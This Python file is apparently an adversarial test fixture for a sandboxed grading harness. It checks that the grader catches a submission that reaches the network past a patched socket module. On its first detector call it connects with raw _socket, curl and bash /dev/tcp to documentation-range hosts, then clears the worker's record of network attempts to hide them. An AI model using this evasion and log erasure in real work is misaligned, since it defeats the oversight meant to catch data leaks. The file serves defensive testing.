"""Attack: reach the network around the harness's Python-level guard, then erase the evidence.

In its first isolation_forest_detector call it connects with the raw
`_socket` module (under the patched `socket`) to 203.0.113.5:80, runs
`curl http://203.0.113.6:8080/` if curl exists and `bash -c 'echo >
/dev/tcp/203.0.113.7/80'`, then clears `labmark_worker.network.attempts` (the
worker's own account of its attempts) and returns an honest answer: a
submission that phones home (to fetch labels, or leak test data) and hides it.

Expected (root grader): the sandbox has no network and the grader watches its
loopback itself, so every connection fails at once and the check errs with
kind `network_blocked`, naming 203.0.113.5:80 whatever the worker erased;
the other detectors behave as the honest control's; the speed check is
skipped.
"""
import shutil
import subprocess

import honest
from honest import one_class_svm_detector, zscore_detector  # noqa: F401

DONE = []


def _phone_home():
    import _socket

    from labmark_worker import network

    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(("203.0.113.5", 80))
    except OSError:
        pass
    finally:
        s.close()
    if shutil.which("curl"):
        subprocess.run(["curl", "-s", "-m", "2", "http://203.0.113.6:8080/"], capture_output=True, check=False)
    subprocess.run(["bash", "-c", "echo > /dev/tcp/203.0.113.7/80"], capture_output=True, timeout=5, check=False)
    network.attempts.clear()
    DONE.append(True)


def isolation_forest_detector(series, period, seed):
    if not DONE:
        _phone_home()
    return honest.isolation_forest_detector(series, period, seed)
